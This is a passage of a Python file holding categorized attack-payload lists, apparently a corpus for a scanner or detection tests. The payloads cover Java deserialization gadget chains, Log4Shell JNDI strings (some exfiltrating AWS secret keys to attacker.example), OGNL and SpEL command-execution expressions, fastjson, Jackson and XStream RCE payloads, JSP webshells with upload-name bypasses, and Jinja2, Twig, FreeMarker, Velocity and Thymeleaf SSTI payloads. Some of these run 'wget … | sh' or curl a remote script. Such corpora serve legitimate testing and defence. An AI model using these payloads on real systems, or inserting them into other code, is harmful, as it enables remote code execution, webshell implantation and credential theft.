    # base64 (rO0AB...), base64url without padding, MIME-wrapped base64
    CHAIN_B64,
    _b64(SER_INVOKER),
    _b64(SER_DATE),
    _b64(SER_BOOLEAN),
    base64.urlsafe_b64encode(SER_CHAIN_WIN).decode().rstrip("="),
    "\r\n".join(CHAIN_B64[i:i + 76] for i in range(0, len(CHAIN_B64), 76)),
    # gzip + base64 (H4sI...): JSF ViewState of Mojarra / MyFaces without encryption
    ("javax.faces.ViewState=" + _b64(gzip.compress(SER_CHAIN, mtime=0)), "form-raw", "rs-form-raw"),
    _b64(gzip.compress(SER_INVOKER, mtime=0)),
    # Jenkins CLI (remoting): the capability preamble then a stream
    "<===[JENKINS REMOTING CAPACITY]===>" + CHAIN_B64,
    # an unauthenticated JMX/Spring remoting field holding base64 in JSON
    ("{\"object\":\"" + CHAIN_B64 + "\",\"type\":\"java\"}", "json-body", "rs-json-body"),
]

# --- java: java-deserialization-gadgets (named gadget libraries, each in the format its sink reads) ---
GADGETS: list[Entry] = [
    # commons-collections 3: the transformer chain as raw bytes and inside c3p0's HexAsciiSerializedMap
    _latin(_chain("wget -qO- http://attacker.example/x|sh")),
    ("[\"com.mchange.v2.c3p0.WrapperConnectionPoolDataSource\",{\"userOverridesAsString\":\"HexAsciiSerializedMap:"
     + SER_CHAIN.hex().upper() + ";\"}]", "json-body", "rs-json-body"),
    # c3p0 JNDI forwarding (fastjson / Jackson)
    ("{\"@type\":\"com.mchange.v2.c3p0.JndiRefForwardingDataSource\",\"jndiName\":\"" + LDAP
     + "\",\"loginTimeout\":0}", "json-body", "rs-json-body"),
    # Spring: XML application context fetched by URL (Jackson CVE-2017-17485), SimpleJndiBeanFactory
    ("[\"org.springframework.context.support.FileSystemXmlApplicationContext\",\"http://attacker.example/spel.xml\"]",
     "json-body", "rs-json-body"),
    ("[\"org.springframework.beans.factory.config.PropertyPathFactoryBean\",{\"targetBeanName\":\"" + LDAP
     + "\",\"propertyPath\":\"x\",\"beanFactory\":[\"org.springframework.jndi.support.SimpleJndiBeanFactory\","
     "{\"shareableResources\":[\"" + LDAP + "\"]}]}]", "json-body", "rs-json-body"),
    # Groovy: MethodClosure inside Expando through XStream
    "<map><entry><groovy.util.Expando><expandoProperties><entry><string>hashCode</string>"
    "<org.codehaus.groovy.runtime.MethodClosure><delegate class=\"string\">id</delegate><owner class=\"string\">x"
    "</owner><resolveStrategy>0</resolveStrategy><directive>0</directive><parameterTypes/>"
    "<maximumNumberOfParameters>0</maximumNumberOfParameters><method>execute</method>"
    "</org.codehaus.groovy.runtime.MethodClosure></entry></expandoProperties></groovy.util.Expando><int>1</int>"
    "</entry></map>",
    # JDK 7u21's TemplatesImpl: a translet class in _bytecodes (fastjson SupportNonPublicField, Jackson)
    ("{\"@type\":\"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl\",\"_bytecodes\":[\"" + TRANSLET_B64
     + "\"],\"_name\":\"a\",\"_tfactory\":{},\"_outputProperties\":{}}", "json-body", "rs-json-body"),
    ("[\"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl\",{\"transletBytecodes\":[\"" + TRANSLET_B64
     + "\"],\"transletName\":\"a\",\"outputProperties\":{}}]", "json-body", "rs-json-body"),
    # ROME: ObjectBean -> ToStringBean -> JdbcRowSetImpl through XStream
    "<map><entry><com.sun.syndication.feed.impl.ObjectBean><__equalsBean><__beanClass>"
    "com.sun.syndication.feed.impl.ToStringBean</__beanClass><__obj class=\"com.sun.syndication.feed.impl."
    "ToStringBean\"><__beanClass>com.sun.rowset.JdbcRowSetImpl</__beanClass><__obj class=\"com.sun.rowset."
    "JdbcRowSetImpl\"><dataSource>" + LDAP + "</dataSource></__obj></__obj></__equalsBean></com.sun.syndication."
    "feed.impl.ObjectBean><string>x</string></entry></map>",
    # Hibernate: StatisticsService session factory lookup (Jackson)
    ("[\"org.hibernate.jmx.StatisticsService\",{\"sessionFactoryJNDIName\":\"" + LDAP + "\"}]",
     "json-body", "rs-json-body"),
    # logback: JNDI connection source and H2 RUNSCRIPT (Jackson CVE-2019-12384)
    ("[\"ch.qos.logback.core.db.JNDIConnectionSource\",{\"jndiLocation\":\"" + LDAP + "\"}]",
     "json-body", "rs-json-body"),
    ("[\"ch.qos.logback.core.db.DriverManagerConnectionSource\",{\"url\":\"jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;"
     "INIT=RUNSCRIPT FROM 'http://attacker.example/inject.sql'\"}]", "json-body", "rs-json-body"),
    # HikariCP, xbean, Shiro, MyBatis JNDI sinks
    ("[\"com.zaxxer.hikari.HikariConfig\",{\"metricRegistry\":\"" + LDAP + "\"}]", "json-body", "rs-json-body"),
    ("[\"org.apache.xbean.propertyeditor.JndiConverter\",{\"asText\":\"" + LDAP + "\"}]", "json-body",
     "rs-json-body"),
    ("[\"org.apache.shiro.jndi.JndiObjectFactory\",{\"resourceName\":\"" + LDAP + "\"}]", "json-body",
     "rs-json-body"),
    ("{\"@type\":\"org.apache.ibatis.datasource.jndi.JndiDataSourceFactory\",\"properties\":{\"data_source\":\""
     + LDAP + "\"}}", "json-body", "rs-json-body"),
    # Spring: an XML application context fetched by URL, through SnakeYAML's global tags
    ("!!org.springframework.context.support.ClassPathXmlApplicationContext [\"http://attacker.example/beans.xml\"]",
     "yaml-body", "rs-yaml-body"),
]

# --- java: log4shell ---
JNDI_B64 = _b64s("${jndi:ldap://attacker.example/b64}")
LOG4SHELL: list[Entry] = [
    # Log4j 2.0-2.14.1: each JNDI scheme
    "${jndi:ldaps://attacker.example/o=tomcat}",
    "${jndi:rmi://attacker.example:1099/Object}",
    "${jndi:dns://attacker.example/txt}",
    "${jndi:iiop://attacker.example:1050/x}",
    "${jndi:nis://attacker.example/x}",
    "${jndi:http://attacker.example/a}",
    "${jndi:" + LDAP + "}",
    # lookups that rebuild the keyword (prefixes are lower-cased; defaults after :-)
    "${${lower:J}${lower:N}${lower:D}${lower:I}:ldap://attacker.example/a}",
    "${${upper:j}${upper:n}di:ldap://attacker.example/a}",
    "${${::-j}ndi:rmi://attacker.example/a}",
    "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.example/a}",
    "${${sys:nope:-j}${sys:nope:-n}${sys:nope:-d}${sys:nope:-i}:ldap://attacker.example/a}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://attacker.example/a}",
    "${j${k8s:k5:-ND}i:ldap://attacker.example/a}",
    "${${main:x:-j}${docker:x:-n}${spring:x:-d}${web:x:-i}:ldap://attacker.example/a}",
    "${base64:" + JNDI_B64 + "}",
    # exfiltration through the lookup host
    "${jndi:ldap://${env:USER}.${sys:java.version}.attacker.example/a}",
    "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}",
    "${jndi:ldap://${hostName}.${ctx:loginId}.attacker.example/a}",
    # Log4j 2.15.0: the localhost allow-list passed with '#' (CVE-2021-45046)
    "${jndi:ldap://127.0.0.1#attacker.example:1389/a}",
    # pre-encoded forms that the application decodes itself: percent-encoding and JSON \\u escapes
    ("%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D", "query-pre", "rs-query-pre"),
    ("%24%7B%24%7Blower%3Aj%7Dndi%3Armi%3A%2F%2Fattacker.example%2Fa%7D", "query-pre", "rs-query-pre"),
    ("{\"username\":\"\\u0024\\u007bjndi:ldap://attacker.example/u\\u007d\",\"password\":\"x\"}",
     "json-body", "rs-json-body"),
    # products: UniFi's remember field, VMware Horizon's Accept-Language, Solr's core admin
    ("{\"username\":\"a\",\"password\":\"b\",\"remember\":\"${jndi:ldap://attacker.example/unifi}\",\"strict\":true}",
     "json-body", "rs-json-body"),
    ("${jndi:ldap://attacker.example/horizon}", "header:Accept-Language", "rs-header:Accept-Language"),
    ("${jndi:ldap://attacker.example/solr}", "header:X-Forwarded-For", "rs-header:X-Api-Version"),
]

# --- java: expression-language ---
OGNL_045 = ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?"
            "(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
            "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
            "(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear())."
            "(#context.setMemberAccess(#dm)))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd}))."
            "(#p.redirectErrorStream(true)).(#process=#p.start())."
            "(@org.apache.commons.io.IOUtils@toString(#process.getInputStream()))}")
SPEL_GATEWAY = ("{\"id\":\"x\",\"filters\":[{\"name\":\"AddResponseHeader\",\"args\":{\"name\":\"Result\",\"value\":"
                "\"#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime)"
                ".getRuntime().exec(new String[]{\\\"id\\\"}).getInputStream()))}\"}}],\"uri\":\"http://example.com\"}")
EXPRESSION_LANGUAGE: list[Entry] = [
    # OGNL, Struts 2: S2-045 in Content-Type, S2-061/062 BeanMap sandbox bypass, S2-057 namespace in the path
    (OGNL_045, "header:Content-Type", "rs-header:Content-Type"),
    "%{(#im=#application.get('org.apache.tomcat.InstanceManager')).(#bm=#im.newInstance('org.apache.commons."
    "collections.BeanMap')).(#bm.setBean(#request.get('struts.valueStack'))).(#bm.setBean(#bm.get('context')))."
    "(#bm.setBean(#bm.get('memberAccess'))).(#bm.put('excludedPackageNames',#im.newInstance('java.util.HashSet')))"
    ".(#bm.put('excludedClasses',#im.newInstance('java.util.HashSet')))."
    "(#im.newInstance('freemarker.template.utility.Execute').exec({'id'}))}",
    ("${(#a=@java.lang.Runtime@getRuntime().exec('id'))}", "path", "rs-path"),
    # OGNL, Confluence: CVE-2022-26134 (path) and CVE-2021-26084 (queryString)
    ("${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream(),"
     "'utf-8')).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader('X-Cmd-Response',#a))}",
     "path", "rs-path"),
    "\\u0027+#{''['class'].forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js')"
    ".eval('java.lang.Runtime.getRuntime().exec(\"id\")')}+\\u0027",
    # SpEL (Spring): T() operator, constructors, StreamUtils, reflection around the class name
    "T(java.lang.Runtime).getRuntime().exec(new String[]{'/bin/sh','-c','id'})",
    "#{new java.lang.ProcessBuilder({'id'}).start()}",
    "T(org.springframework.util.StreamUtils).copyToString(T(java.lang.Runtime).getRuntime().exec('id')"
    ".getInputStream(),T(java.nio.charset.Charset).forName('UTF-8'))",
    "T(java.lang.Class).forName('java.lang.Run'+'time').getMethod('exec',T(String)).invoke(T(java.lang.Class)"
    ".forName('java.lang.Run'+'time').getMethod('getRuntime').invoke(null),'id')",
    # SpEL: Spring Cloud Function routing header (CVE-2022-22963), Spring Cloud Gateway route (CVE-2022-22947)
    ("T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/scf\")", "header:spring.cloud.function.routing-expression",
     "rs-header:spring.cloud.function.routing-expression"),
    (SPEL_GATEWAY, "json-body", "rs-json-body"),
    # MVEL (Drools, Jira rules) and its @{} template orb
    "@{java.lang.Runtime.getRuntime().exec('id')}",
    "rt = java.lang.Runtime.getRuntime(); rt.exec('id');",
    # JEXL 2/3 (Apache Commons JEXL)
    "''.class.forName('java.lang.Runtime').getRuntime().exec('id')",
    "var r = ''.getClass().forName('java.lang.Runtime'); r.getRuntime().exec('id')",
    # JSP EL 2.2 method calls and Jakarta EL 3 (java.lang imported by default)
    "${''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(''.getClass().forName('java.lang.Runtime'))"
    ".exec('id')}",
    "${pageContext.request.getSession().setAttribute('a',''.getClass().forName('java.lang.ProcessBuilder')"
    ".getDeclaredConstructors()[0].newInstance(['id']).start())}",
    "${Runtime.getRuntime().exec('id')}",
    # JBoss Seam 2 (#{} in actionOutcome)
    "#{expressions.getClass().forName('java.lang.Runtime').getDeclaredMethods()[19].invoke(expressions.getClass()"
    ".forName('java.lang.Runtime').getDeclaredMethods()[7].invoke(null),'id')}",
    # Hibernate Validator messages (Nexus CVE-2020-10199): the $\\A{ escape bypass
    "$\\A{''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null).exec('touch /tmp/nexus')}",
]

# --- java: polymorphic-deserialization (XStream, XMLDecoder, fastjson, Jackson, SnakeYAML) ---
POLYMORPHIC: list[Entry] = [
    # XStream 1.4.6 and earlier (CVE-2013-7285): EventHandler proxy in a sorted set
    "<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="
    "\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>/bin/sh</string>"
    "<string>-c</string><string>id</string></command></target><action>start</action></handler></dynamic-proxy>"
    "</sorted-set>",
    # XStream 1.4.13 (CVE-2020-26217): NativeString / ImageIO filter iterator
    "<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class='com.sun.xml.internal.bind"
    ".v2.runtime.unmarshaller.Base64Data'><dataHandler><dataSource class='com.sun.xml.internal.ws.encoding.xml."
    "XMLMessage$XmlDataSource'><contentType>text/plain</contentType><is class='java.io.SequenceInputStream'><e "
    "class='javax.swing.MultiUIDefaults$MultiUIDefaultsEnumerator'><iterator class='javax.imageio.spi."
    "FilterIterator'><iter class='java.util.ArrayList$Itr'><cursor>0</cursor><lastRet>-1</lastRet>"
    "<expectedModCount>1</expectedModCount><outer-class><java.lang.ProcessBuilder><command><string>id</string>"
    "</command></java.lang.ProcessBuilder></outer-class></iter><filter class='javax.imageio.ImageIO$ContainsFilter'>"
    "<method><class>java.lang.ProcessBuilder</class><name>start</name><parameter-types/></method><name>start</name>"
    "</filter><next/></iterator><type>KEYS</type></e><in class='java.io.ByteArrayInputStream'><buf></buf><pos>0"
    "</pos><mark>0</mark><count>0</count></in></is><consumed>false</consumed></dataSource><transferFlavors/>"
    "</dataHandler><dataLen>0</dataLen></value></jdk.nashorn.internal.objects.NativeString><string>test</string>"
    "</entry></map>",
    # java.beans.XMLDecoder: ProcessBuilder, Runtime, and a file written through PrintWriter
    "<java version=\"1.8.0\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.ProcessBuilder\"><array "
    "class=\"java.lang.String\" length=\"3\"><void index=\"0\"><string>/bin/bash</string></void><void index=\"1\">"
    "<string>-c</string></void><void index=\"2\"><string>id</string></void></array><void method=\"start\"/>"
    "</object></java>",
    "<java><void class=\"java.lang.Runtime\" method=\"getRuntime\"><void method=\"exec\"><string>cmd.exe /c whoami"
    "</string></void></void></java>",
    "<java><object class=\"java.io.PrintWriter\"><string>servers/AdminServer/tmp/_WL_internal/bea_wls_internal/"
    "9j4dqk/war/x.jsp</string><void method=\"println\"><string><![CDATA[<% Runtime.getRuntime().exec(request."
    "getParameter(\"c\")); %>]]></string></void><void method=\"close\"/></object></java>",
    # WebLogic wls-wsat SOAP (CVE-2017-10271): XMLDecoder inside WorkContext
    "<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Header><work:WorkContext"
    " xmlns:work=\"http://bea.com/2004/06/soap/workarea/\"><java class=\"java.beans.XMLDecoder\"><object class="
    "\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"3\"><void index=\"0\"><string>/bin/sh"
    "</string></void><void index=\"1\"><string>-c</string></void><void index=\"2\"><string>id</string></void>"
    "</array><void method=\"start\"/></object></java></work:WorkContext></soapenv:Header><soapenv:Body/>"
    "</soapenv:Envelope>",
    # fastjson by version: 1.2.24, 1.2.25-1.2.41 (L;), 1.2.42 (LL;;), 1.2.43 ([), 1.2.47 (Class cache), escapes
    ("{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://attacker.example:1099/Exploit\","
     "\"autoCommit\":true}", "json-body", "rs-json-body"),
    ("{\"@type\":\"Lcom.sun.rowset.JdbcRowSetImpl;\",\"dataSourceName\":\"" + LDAP + "\",\"autoCommit\":true}",
     "json-body", "rs-json-body"),
    ("{\"@type\":\"LLcom.sun.rowset.JdbcRowSetImpl;;\",\"dataSourceName\":\"" + LDAP + "\",\"autoCommit\":true}",
     "json-body", "rs-json-body"),
    ("{\"@type\":\"[com.sun.rowset.JdbcRowSetImpl\"[{,\"dataSourceName\":\"" + LDAP + "\",\"autoCommit\":true}",
     "json-body", "rs-json-body"),
    ("{\"a\":{\"@type\":\"java.lang.Class\",\"val\":\"com.sun.rowset.JdbcRowSetImpl\"},\"b\":{\"@type\":"
     "\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"" + LDAP + "\",\"autoCommit\":true}}",
     "json-body", "rs-json-body"),
    ("{\"\\u0040\\u0074ype\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"" + LDAP
     + "\",\"autoCommit\":true}", "json-body", "rs-json-body"),
    ("{\"\\x40type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"" + LDAP + "\",\"autoCommit\":true}",
     "json-body", "rs-json-body"),
    # fastjson 1.2.68: expectClass AutoCloseable file write
    ("{\"@type\":\"java.lang.AutoCloseable\",\"@type\":\"java.io.FileOutputStream\",\"file\":\"/tmp/x.jsp\","
     "\"append\":false}", "json-body", "rs-json-body"),
    # Jackson default typing: WRAPPER_ARRAY, @class (Id.CLASS)
    ("[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"" + LDAP + "\",\"autoCommit\":true}]",
     "json-body", "rs-json-body"),
    ("{\"@class\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"" + LDAP + "\",\"autoCommit\":true}",
     "json-body", "rs-json-body"),
    ("{\"object\":[\"org.springframework.context.support.ClassPathXmlApplicationContext\","
     "\"http://attacker.example/spel.xml\"]}", "json-body", "rs-json-body"),
    # SnakeYAML global tags
    ("!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: '" + LDAP + "', autoCommit: true}",
     "yaml-body", "rs-yaml-body"),
    ("!!java.lang.ProcessBuilder [[\"sh\", \"-c\", \"id\"]]", "yaml-body", "rs-yaml-body"),
]

# --- java: class-loading ---
CLASS_LOADING: list[Entry] = [
    # parameter binding onto the class loader: Spring4Shell (JDK 9+), Struts S2-020/S2-021, Spring CVE-2010-1622
    ("class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&class.module.classLoader."
     "resources.context.parent.pipeline.first.directory=webapps/ROOT", "form-raw", "rs-form-raw"),
    ("class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=", "qs-raw", "rs-qs-raw"),
    ("class.classLoader.resources.dirContext.docBase=\\\\attacker.example\\share", "qs-raw", "rs-qs-raw"),
    ("class['classLoader'].resources.context.parent.pipeline.first.prefix=shell", "qs-raw", "rs-form-raw"),
    ("class.classLoader.URLs[0]=jar:http://attacker.example/spring-exploit.jar!/", "form-raw", "rs-qs-raw"),
    # URLClassLoader from Java, Groovy, SpEL and Nashorn
    "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(\"http://attacker.example/x.jar\")})"
    ".loadClass(\"Exploit\").newInstance()",
    "new URLClassLoader([new URL('http://attacker.example/x.jar')] as URL[]).loadClass('Exploit').newInstance()",
    "T(java.net.URLClassLoader).newInstance(new java.net.URL[]{new java.net.URL('http://attacker.example/x.jar')})"
    ".loadClass('Exploit').newInstance()",
    "var cl = new java.net.URLClassLoader(Java.to([new java.net.URL('http://attacker.example/x.jar')],"
    " 'java.net.URL[]')); cl.loadClass('Exploit').newInstance();",
    # defineClass: SpEL through Spring's cglib ReflectUtils, and MethodHandles.Lookup (JDK 9+)
    "T(org.springframework.cglib.core.ReflectUtils).defineClass('Exploit',T(java.util.Base64).getDecoder().decode('"
    + CLASS_B64 + "'),T(java.lang.Thread).currentThread().getContextClassLoader())",
    "java.lang.invoke.MethodHandles.lookup().defineClass(java.util.Base64.getDecoder().decode(\"" + CLASS_B64
    + "\"))",
    # Groovy class loader compiling source
    "new groovy.lang.GroovyClassLoader().parseClass('class X{static{\"id\".execute()}}').newInstance()",
    # BCEL's class loader (JDK < 8u251 internal copy; tomcat-dbcp through fastjson)
    "new com.sun.org.apache.bcel.internal.util.ClassLoader().loadClass(\"" + BCEL_CLASS + "\").newInstance()",
    ("{\"@type\":\"org.apache.tomcat.dbcp.dbcp2.BasicDataSource\",\"driverClassLoader\":{\"@type\":\"com.sun.org."
     "apache.bcel.internal.util.ClassLoader\"},\"driverClassName\":\"" + BCEL_CLASS + "\"}", "json-body",
     "rs-json-body"),
    # JMX MLet file and SnakeYAML's ScriptEngineManager with a remote jar
    "<MLET CODE=\"Payload\" ARCHIVE=\"compromise.jar\" NAME=\"MLetCompromise:name=x,id=1\" "
    "CODEBASE=\"http://attacker.example/\"></MLET>",
    ("!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
     "[\"http://attacker.example/yaml-payload.jar\"]]]]", "yaml-body", "rs-yaml-body"),
]

# --- java: jsp-upload (file names per container and OS, and the files' contents) ---
JSP_UPLOAD: list[Entry] = [
    # names: Tomcat/Jetty extensions, Tomcat's ;path-parameter, Windows trailing dot / ADS / case, traversal
    ("cmd.jsp", "multipart-filename", "rs-multipart-filename"),
    ("shell.jspx", "multipart-filename", "rs-multipart-filename"),
    ("header.jspf", "multipart-filename", "rs-multipart-filename"),
    ("shell.jsp;.png", "multipart-filename", "rs-multipart-filename"),
    ("shell.jsp%00.jpg", "multipart-filename", "rs-multipart-filename"),
    ("SHELL.JSP", "multipart-filename", "rs-multipart-filename"),
    ("shell.jsp.", "multipart-filename", "rs-multipart-filename"),
    ("shell.jsp::$DATA", "multipart-filename", "rs-multipart-filename"),
    ("../../../../opt/tomcat/webapps/ROOT/cmd.jsp", "multipart-filename", "rs-multipart-filename"),
    ("..\\..\\webapps\\ROOT\\cmd.jsp", "multipart-filename", "rs-multipart-filename"),
    ("../../../wlserver/server/lib/consoleapp/webapp/framework/skins/wlsconsole/images/cmd.jsp",
     "multipart-filename", "rs-multipart-filename"),
    # contents: scriptlet, JSPX document, Behinder-style class loader, EL-only, unicode-escaped scriptlet
    ("<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>", "multipart-content", "rs-multipart-content"),
    ("<%@ page import=\"java.io.*\" %><% Process p = Runtime.getRuntime().exec(request.getParameter(\"cmd\")); "
     "out.println(new BufferedReader(new InputStreamReader(p.getInputStream())).readLine()); %>",
     "multipart-content", "rs-multipart-content"),
    ("<jsp:root xmlns:jsp=\"http://java.sun.com/JSP/Page\" version=\"2.0\"><jsp:scriptlet>Runtime.getRuntime()"
     ".exec(request.getParameter(\"c\"));</jsp:scriptlet></jsp:root>", "multipart-content", "rs-multipart-content"),
    ("<%@page import=\"java.util.*,javax.crypto.*,javax.crypto.spec.*\"%><%!class U extends ClassLoader{U(ClassLoader"
     " c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><%Cipher c=Cipher.getInstance"
     "(\"AES\");c.init(2,new SecretKeySpec(\"e45e329feb5d925b\".getBytes(),\"AES\"));new U(this.getClass()"
     ".getClassLoader()).g(c.doFinal(Base64.getDecoder().decode(request.getReader().readLine()))).newInstance()"
     ".equals(pageContext);%>", "multipart-content", "rs-multipart-content"),
    ("${Runtime.getRuntime().exec(param.c)}", "multipart-content", "rs-multipart-content"),
    ("<% \\u0052untime.getRuntime().exec(request.getParameter(\"c\")); %>", "multipart-content",
     "rs-multipart-content"),
    ("<%= new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter(\"c\")).getInputStream())"
     ".useDelimiter(\"\\\\A\").next() %>", "multipart-content", "rs-multipart-content"),
]

# --- ssti: one list per engine ---
JINJA2: list[Entry] = [
    # Jinja2 on Python 3: globals of the template's own helpers
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ joiner.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}",
    "{{ namespace.__init__.__globals__.os.popen('id').read() }}",
    "{% set x = self._TemplateReference__context.cycler.__init__.__globals__.os %}{{ x.popen('id').read() }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}"
    "{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}",
    # Jinja2 on Python 2: the file type among object's subclasses
    "{{ ''.__class__.__mro__[2].__subclasses__()[40]('/etc/passwd').read() }}",
    # Flask: request, config, url_for and get_flashed_messages
    "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}",
    "{{ url_for.__globals__.os.environ }}",
    "{{ get_flashed_messages.__globals__.current_app.config['SECRET_KEY'] }}",
    "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')"
    "('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')"
    "|attr('popen')('id')|attr('read')() }}",
    # Ansible's Jinja2: lookup plugins
    "{{ lookup('pipe', 'id') }}",
    "{{ lookup('file', '/etc/shadow') }}",
]

TWIG: list[Entry] = [
    # Twig 1.x: the environment through _self
    "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}",
    "{{_self.env.setCache('ftp://attacker.example:2121')}}{{_self.env.loadTemplate('backdoor')}}",
    # Twig 2.x / 3.x: PHP callables handed to filter, map, sort and reduce
    "{{['id']|filter('system')}}",
    "{{['cat /etc/passwd']|map('passthru')}}",
    "{{['id','']|sort('system')}}",
    "{{[0]|reduce('system','id')}}",
    "{{ {'id':'exec'}|map('call_user_func')|join }}",
    # Symfony's Twig bridge and app variable
    "{{ '/etc/passwd'|file_excerpt(1,30) }}",
    "{{ app.request.server.all|join(',') }}",
    # Craft CMS (Twig): the app's config service
    "{{ craft.app.config.general.securityKey }}",
]

FREEMARKER: list[Entry] = [
    # FreeMarker angle-bracket syntax: TemplateModel classes through ?new
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\"freemarker.template.utility.Execute\"?new()(\"cat /etc/passwd\")}",
    "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",\"id\").start()}",
    "<#assign jy=\"freemarker.template.utility.JythonRuntime\"?new()><@jy>import os;os.system(\"id\")</@jy>",
    # FreeMarker square-bracket tag and interpolation syntax (2.3.28+)
    "[#assign ex='freemarker.template.utility.Execute'?new()][=ex('id')]",
    # FreeMarker 2.3.22+ ?api: around the new_builtin_class_resolver
    "<#assign uri=object?api.class.getResource(\"/\").toURI()><#assign input=uri?api.create(\"file:///etc/passwd\")"
    ".toURL().openConnection()><#assign is=input?api.getInputStream()>${is?api.readAllBytes()?join(\" \")}",
    "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
    ".toURL().openStream().readAllBytes()?join(' ')}",
    # FreeMarker on Windows
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"cmd.exe /c type C:\\\\Windows\\\\win.ini\")}",
]

VELOCITY: list[Entry] = [
    # Velocity 1.7 / 2.x: reflection from any string reference
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()",
    "#{set}($e=\"e\")${e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null)"
    ".invoke(null,null).exec(\"id\")}",
    # VelocityTools ClassTool
    "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\")",
    # Apache Solr VelocityResponseWriter (CVE-2019-17558): output read back character by character
    "#set($x='') #set($rt=$x.class.forName('java.lang.Runtime')) #set($chr=$x.class.forName('java.lang.Character'))"
    " #set($ex=$rt.getRuntime().exec('id')) $ex.waitFor() #set($out=$ex.getInputStream()) "
    "#foreach($i in [1..$out.available()])$chr.toChars($out.read())#end",
    # Confluence widget connector template (CVE-2019-3396 era)
    "#set ($e=\"exp\") $e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null)"
    ".invoke(null,null).exec(\"curl attacker.example/c.sh -o /tmp/c.sh\")",
    # resource loader reads
    "#parse('../../../../../../etc/passwd')",
    "#include(\"/WEB-INF/web.xml\")",
    # Velocity on Windows
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('cmd.exe /c whoami')",
]

THYMELEAF: list[Entry] = [
    # Thymeleaf 3 + Spring: view-name preprocessing (__...__::.x), and the 3.0.12 "T (" bypass
    "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
    "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}__::.x",
    "__${T (java.lang.Runtime).getRuntime().exec('touch /tmp/t')}__::.x",
    # Thymeleaf 3 inlining ([[...]] escaped, [(...)] unescaped) and selection expressions
    "[[${T(java.lang.Runtime).getRuntime().exec('id')}]]",
    "[(${T(java.lang.System).getenv()})]",
    "*{T(java.lang.Runtime).getRuntime().exec('id')}",
    # Thymeleaf 2 attribute processors and Spring beans
    "<p th:text=\"${T(java.lang.Runtime).getRuntime().exec('id')}\"></p>",
    "<div th:utext=\"${@environment.getProperty('spring.datasource.password')}\"></div>",
    # Thymeleaf standalone (OGNL, no Spring): static method syntax
    "${@java.lang.Runtime@getRuntime().exec('id')}",
    "[[${#rt = @java.lang.Runtime@getRuntime(),#rt.exec('id')}]]",
]

ERB: list[Entry] = [
